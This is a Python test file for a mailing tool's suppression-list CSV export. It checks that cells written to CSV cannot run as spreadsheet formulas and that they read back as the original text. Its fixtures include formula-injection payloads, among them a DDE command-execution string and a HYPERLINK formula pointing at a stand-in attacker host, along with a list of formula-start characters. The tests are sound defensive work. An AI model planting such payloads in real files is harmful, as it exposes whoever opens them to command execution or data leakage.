"""What strangers write is no formula in the CSV files that people open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroad.campaign.suppression_file import EntryDefaults, read_addresses, read_entries, write_entries
from postroad.csv_cell import read_cell, text_cell
from postroad.mail.address import normalise_address
from postroad.store.suppression import Listed, SuppressionReason

NOW = datetime(2026, 5, 4, 8, 30, tzinfo=UTC)
FORMULAS = ["=1+1@example.com", "+1@example.com", "-1@example.com", "=cmd|'/c'!a0@example.com", "'=1@example.com"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("address", FORMULAS)
def test_an_export_of_suppressions_has_no_formula_and_can_be_imported(tmp_path: Path, address: str) -> None:
    assert normalise_address(address) == address, "a stranger may have it"
    source = f'=HYPERLINK("https://evil.example/{address}")'
    file = io.StringIO()
    write_entries(file, [Listed(address, None, "manual", source, NOW), Listed("@example.org", None, "manual", "", NOW)])
    rows = list(csv.reader(io.StringIO(file.getvalue())))[1:]
    assert not [cell for row in rows for cell in row if cell.startswith(STARTS) and cell != "@example.org"]
    path = tmp_path / "list.csv"
    path.write_text(file.getvalue())
    defaults = EntryDefaults(reason=SuppressionReason.MANUAL, source="list.csv", now=NOW, audiences={})
    entries = [(entry.address, entry.source) for entry in read_entries(path, defaults)]
    assert entries == [(address, source), ("@example.org", "list.csv")]
    path.write_text(f'address\n"{text_cell(address)}"\n')
    assert read_addresses(path) == [address]


@given(st.text(alphabet="'=+-@\t\ra.", max_size=8) | st.text(max_size=20))
def test_a_cell_is_read_as_the_text_that_it_was(text: str) -> None:
    cell = text_cell(text)
    assert read_cell(cell) == text
    assert not cell.startswith(STARTS) or cell.startswith("@"), "a domain"
